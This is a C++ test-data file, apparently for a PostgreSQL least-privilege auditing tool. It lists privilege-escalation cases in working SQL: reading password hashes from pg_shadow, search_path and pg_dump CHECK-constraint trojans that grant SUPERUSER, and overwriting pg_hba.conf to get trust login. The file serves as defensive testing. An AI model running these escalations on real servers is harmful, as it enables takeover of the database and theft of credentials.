         .setup = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
CREATE FUNCTION public.get_auth(name text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT passwd FROM pg_catalog.pg_shadow WHERE usename = name';
REVOKE ALL ON FUNCTION public.get_auth(text) FROM PUBLIC; GRANT EXECUTE ON FUNCTION public.get_auth(text) TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
CREATE FUNCTION public.get_auth(name text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT passwd FROM pg_catalog.pg_shadow WHERE usename = name';
REVOKE ALL ON FUNCTION public.get_auth(text) FROM PUBLIC;)x",
         .to = "{r}boss",
         .does = "SELECT public.get_auth('{r}boss');",
         .hash_of = "{r}boss"},
        {.id = "ESC-CREATEDB",
         .since = 12,
         .setup = "CREATE ROLE {r}app LOGIN CREATEDB;",
         .without = "CREATE ROLE {r}app LOGIN;",
         .to = "superuser",
         .does = R"x(CREATE DATABASE {db}n;
\connect {db}n
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC;
CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
ALTER DATABASE {db}n SET search_path = s, pg_catalog;)x",
         .victim_is = "{super}",
         .victim = R"x(\connect {db}n
SELECT lower('X'::varchar);)x",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = R"x(ALTER ROLE {r}app NOSUPERUSER;
DROP DATABASE IF EXISTS {db}n;)x"},
        {.id = "ESC-CREATEDB",
         .since = 13,
         .extension = "hstore",
         .setup = "CREATE ROLE {r}app LOGIN CREATEDB;",
         .without = "CREATE ROLE {r}app LOGIN;",
         .to = "the scripts of trusted extensions, run as the bootstrap superuser",
         .does = R"x(CREATE DATABASE {db}n;
\connect {db}n
CREATE EXTENSION hstore;
SELECT 'gained' FROM pg_proc WHERE proname = 'hstore_in' AND proowner = 10;)x",
         .reset = "DROP DATABASE IF EXISTS {db}n;"},
        {.id = "ESC-DUMP",
         .since = 12,
         .until = 15,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE, CREATE ON SCHEMA s TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO {r}app;)x",
         .to = "superuser",
         .does = R"x(CREATE FUNCTION s.f(int) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN IF current_user = '{super}' THEN ALTER ROLE {r}app SUPERUSER; END IF; RETURN true; END $$;
CREATE TABLE s.t (a int CHECK (s.f(a))); INSERT INTO s.t VALUES (1);)x",
         .victim_is = "{super}",
         .victim = R"x(CREATE DATABASE {db}x;
\! pg_dump -d '{where} user={super} dbname={db}' | psql -X -q -d '{where} user={super} dbname={db}x'
)x",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = R"x(ALTER ROLE {r}app NOSUPERUSER;
DROP TABLE IF EXISTS s.t;
DROP FUNCTION IF EXISTS s.f(int);
DROP DATABASE {db}x;)x"},
        // What pg_dump writes, as the one at hand may be older than the server.
        {.id = "ESC-DUMP",
         .since = 16,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE, CREATE ON SCHEMA s TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO {r}app;)x",
         .to = "superuser",
         .does = R"x(CREATE FUNCTION s.f(int) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN IF current_user = '{super}' THEN ALTER ROLE {r}app SUPERUSER; END IF; RETURN true; END $$;
CREATE TABLE s.t (a int CHECK (s.f(a))); INSERT INTO s.t VALUES (1);)x",
         .victim_is = "{super}",
         .victim = R"x(CREATE DATABASE {db}x;
\o {folder}/{db}.dump
SELECT 'SET search_path = ''''; CREATE SCHEMA s;';
SELECT pg_get_functiondef(oid) || '; ALTER FUNCTION ' || oid::regprocedure || ' OWNER TO {r}app;' FROM pg_proc WHERE pronamespace = 's'::regnamespace;
SELECT 'CREATE TABLE s.t (a int, ' || pg_get_constraintdef(oid) || '); ALTER TABLE s.t OWNER TO {r}app;' || E'\nCOPY s.t (a) FROM stdin;\n1\n\\.' FROM pg_constraint WHERE conrelid = to_regclass('s.t') AND contype = 'c';
\o
\connect {db}x
\i {folder}/{db}.dump
)x",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = R"x(ALTER ROLE {r}app NOSUPERUSER;
DROP TABLE IF EXISTS s.t;
DROP FUNCTION IF EXISTS s.f(int);
DROP DATABASE {db}x;)x"},
        {.id = "ESC-HBA-EDIT",
         .since = 12,
         .hba = "local {db}h {super} reject",
         .hba_without = "local {db}h {super} reject",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE DATABASE {db}h;
GRANT pg_write_server_files TO {r}app; GRANT EXECUTE ON FUNCTION pg_reload_conf() TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE DATABASE {db}h;
GRANT pg_read_server_files TO {r}app; GRANT EXECUTE ON FUNCTION pg_reload_conf() TO {r}app;)x",
         .to = "{super}",
         .does = R"x(\! cp -p {data}/pg_hba.conf {data}/pg_hba.kept
COPY (SELECT 'local all all trust') TO '{data}/pg_hba.conf';
SELECT pg_reload_conf();
SELECT pg_sleep(0.3);
\connect {db}h {super}
SELECT 'gained' FROM pg_authid LIMIT 1;)x",
         .reset = R"x(\! cp -p {data}/pg_hba.kept {data}/pg_hba.conf
SELECT pg_reload_conf();
SELECT pg_sleep(0.3);)x"},
        {.id = "ESC-HBA-EDIT",
         .since = 12,
         .hba = "local {db}h {super} reject",
         .hba_without = "local {db}h {super} reject",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE DATABASE {db}h;
GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE DATABASE {db}h;
GRANT EXECUTE ON FUNCTION lo_import(text) TO {r}app;)x",
         .to = "{super}",
         .does = R"x(\! cp -p {data}/pg_hba.conf {data}/pg_hba.kept
SELECT lo_from_bytea(0, 'local all all trust') AS written \gset
SELECT lo_export(:written, '{data}/pg_hba.conf');)x",
         .victim_is = "{super}",
         .victim = "SELECT pg_reload_conf(); SELECT pg_sleep(0.3);",
         .then = R"x(\connect {db}h {super}
SELECT 'gained' FROM pg_authid LIMIT 1;)x",
         .reset = R"x(\! cp -p {data}/pg_hba.kept {data}/pg_hba.conf
SELECT pg_reload_conf();
SELECT pg_sleep(0.3);)x"},
        {.id = "ESC-IDENTMAP",
         .since = 12,
         .hba = "local all {r}app,{r}boss peer map={r}m\nhost all {r}app,{r}boss all reject",
         .hba_without =
             "local all {r}app,{r}boss peer map={r}m\nhost all {r}app,{r}boss all reject",
         .ident = "{r}m {os} {r}app\n{r}m {os} {r}boss",
         .ident_without = "{r}m {os} {r}app\n{r}m nobody {r}boss",
         .setup = "CREATE ROLE {r}app LOGIN; CREATE ROLE {r}boss LOGIN;",
         .without = "CREATE ROLE {r}app LOGIN; CREATE ROLE {r}boss LOGIN;",
         .to = "{r}boss",
         .does = R"x(\connect - {r}boss
SELECT 'gained' WHERE session_user = '{r}boss';)x"},
        {.id = "ESC-READSETTINGS",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
GRANT pg_monitor TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
GRANT pg_stat_scan_tables, pg_read_all_stats TO {r}app;)x",
         .to = "a login on another server",
         .does = "SELECT 'gained' FROM pg_settings WHERE name = 'primary_conninfo' AND setting "
                 "LIKE '%password=%';"},
        {.id = "ESC-LARGEOBJECT",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
SELECT lo_from_bytea(0, 'x');
ALTER ROLE {r}app SET lo_compat_privileges = on;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
SELECT lo_from_bytea(0, 'x');
CREATE ROLE {r}other LOGIN; ALTER ROLE {r}other SET lo_compat_privileges = on;)x",
         .to = "every large object",
         .does = "SELECT 'gained' FROM (SELECT lo_get(oid) FROM pg_largeobject_metadata) AS "
                 "all_of_them LIMIT 1;"},
        {.id = "ESC-USERMAP",
         .since = 12,
         .extension = "postgres_fdw",
         .hba = "local {db} {r}boss md5",
         .hba_without = "local {db} {r}boss md5",
         .setup = R"x(CREATE ROLE {r}app LOGIN; CREATE ROLE {r}team; GRANT {r}team TO {r}app;
CREATE ROLE {r}boss LOGIN PASSWORD 'hidden'; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; CREATE TABLE public.secret AS SELECT 'gained'::text AS a; ALTER TABLE public.secret OWNER TO {r}boss;
CREATE EXTENSION postgres_fdw; CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{folder}', port '{port}', dbname '{db}'); GRANT USAGE ON FOREIGN SERVER back TO {r}app, {r}team; CREATE USER MAPPING FOR {r}app SERVER back OPTIONS (user '{r}boss', password 'hidden');)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN PASSWORD 'hidden'; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; CREATE TABLE public.secret AS SELECT 'gained'::text AS a; ALTER TABLE public.secret OWNER TO {r}boss;
CREATE EXTENSION postgres_fdw; CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{folder}', port '{port}', dbname '{db}'); CREATE USER MAPPING FOR {r}app SERVER back OPTIONS (user '{r}boss', password 'hidden');)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE FOREIGN TABLE s.there (a text) SERVER back OPTIONS (schema_name 'public', table_name 'secret');
TABLE s.there;
ROLLBACK;)x"},
    }};

inline std::string replaced(std::string text, const std::string& what, const std::string& by) {
  for (std::size_t at = 0; (at = text.find(what, at)) != std::string::npos; at += by.size()) {
    text.replace(at, what.size(), by);
  }
  return text;
}

/// Several steps, in `postgres`.
struct Way {
  int since, until;
  const char* setup;
  const char* from;
  Goal to;
  const char* edges;  // of the way that needs nobody else; empty: there is none
};

inline const Goal superuser{no_role, Power::superuser};

// Steps put together: what the first leaves open, the next must be able to use.
inline const Way ways[] = {
    // Code that runs as its owner cannot SET ROLE; what the owner inherits it can use.
    {12, newest_major,
     "CREATE ROLE w1_app LOGIN; CREATE ROLE w1_boss NOINHERIT; CREATE ROLE w1_deputy SUPERUSER; "
     "GRANT w1_deputy TO w1_boss; CREATE SCHEMA w1_own AUTHORIZATION w1_app; CREATE SCHEMA w1; "
     "GRANT USAGE ON SCHEMA w1 TO PUBLIC; CREATE FUNCTION w1.f() RETURNS text LANGUAGE sql "
     "SECURITY DEFINER AS 'SELECT lower(current_user::text)'; ALTER FUNCTION w1.f() OWNER TO "
     "w1_boss; REVOKE ALL ON FUNCTION w1.f() FROM PUBLIC; GRANT ALL ON FUNCTION w1.f() TO w1_app;",
     "w1_app", superuser, ""},
    {12, newest_major,
     "CREATE ROLE w2_app LOGIN; CREATE ROLE w2_boss; GRANT pg_execute_server_program TO w2_boss; "
     "CREATE SCHEMA w2_own AUTHORIZATION w2_app; CREATE SCHEMA w2; GRANT USAGE ON SCHEMA w2 TO "
     "PUBLIC; CREATE FUNCTION w2.f() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'SELECT "
     "lower(current_user::text)'; ALTER FUNCTION w2.f() OWNER TO w2_boss; "
     "REVOKE ALL ON FUNCTION w2.f() FROM PUBLIC; GRANT ALL ON FUNCTION w2.f() TO w2_app;",
     "w2_app", superuser, "ESC-SECDEF ESC-EXECPROG"},
    // An attribute is not inherited, but SET ROLE brings it.
    {12, 15, "CREATE ROLE w3_app LOGIN; CREATE ROLE w3_maker CREATEROLE; GRANT w3_maker TO w3_app;",
     "w3_app", superuser, "ESC-SET ESC-CREATEROLE ESC-EXECPROG"},
    {16, newest_major,
     "CREATE ROLE w4_app LOGIN; CREATE ROLE w4_boss; CREATE ROLE w4_deputy SUPERUSER; GRANT "
     "w4_boss TO w4_app WITH ADMIN TRUE, INHERIT FALSE, SET FALSE; GRANT w4_deputy TO w4_boss;",
     "w4_app", superuser, "ESC-ADMIN ESC-SET ESC-SUPER"},
    {16, newest_major,
     "CREATE ROLE w5_app LOGIN; CREATE ROLE w5_deputy SUPERUSER; GRANT w5_deputy TO w5_app WITH "
     "INHERIT TRUE, SET FALSE;",
     "w5_app", superuser, ""},
    // Only a login replicates; who becomes a role that may log in gives it a password.
    {12,
     newest_major,
     "CREATE ROLE w6_app LOGIN; CREATE ROLE w6_standby REPLICATION; GRANT w6_standby TO w6_app;",
     "w6_app",
     {no_role, Power::whole_cluster},
     ""},
    {12,
     newest_major,
     "CREATE ROLE w9_app LOGIN; CREATE ROLE w9_standby LOGIN REPLICATION; GRANT w9_standby TO "
     "w9_app;",
     "w9_app",
     {no_role, Power::whole_cluster},
     "ESC-SET ESC-PASSWORD ESC-REPLICATION"},
    {16,
     newest_major,
     "CREATE ROLE w7_app LOGIN CREATEROLE; CREATE ROLE w7_standby LOGIN REPLICATION; GRANT "
     "w7_standby TO w7_app WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;",
     "w7_app",
     {no_role, Power::whole_cluster},
     "ESC-PASSWORD ESC-REPLICATION"},
    // Who runs code as a role gives it a password and logs in as it, if it may.
    {12, newest_major,
     "CREATE ROLE w8_app LOGIN; CREATE ROLE w8_boss LOGIN NOINHERIT; CREATE ROLE w8_deputy "
     "SUPERUSER; GRANT w8_deputy TO w8_boss; CREATE SCHEMA w8; GRANT USAGE ON SCHEMA w8 TO w8_app; "
     "CREATE FUNCTION w8.f(q text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path "
     "= pg_catalog, pg_temp AS 'BEGIN EXECUTE q; END'; ALTER FUNCTION w8.f(text) OWNER TO w8_boss; "
     "REVOKE ALL ON FUNCTION w8.f(text) FROM PUBLIC; GRANT ALL ON FUNCTION w8.f(text) TO w8_app;",
     "w8_app", superuser, "ESC-SECDEF ESC-PASSWORD ESC-SET ESC-SUPER"},
};

}  // namespace pgleast::test
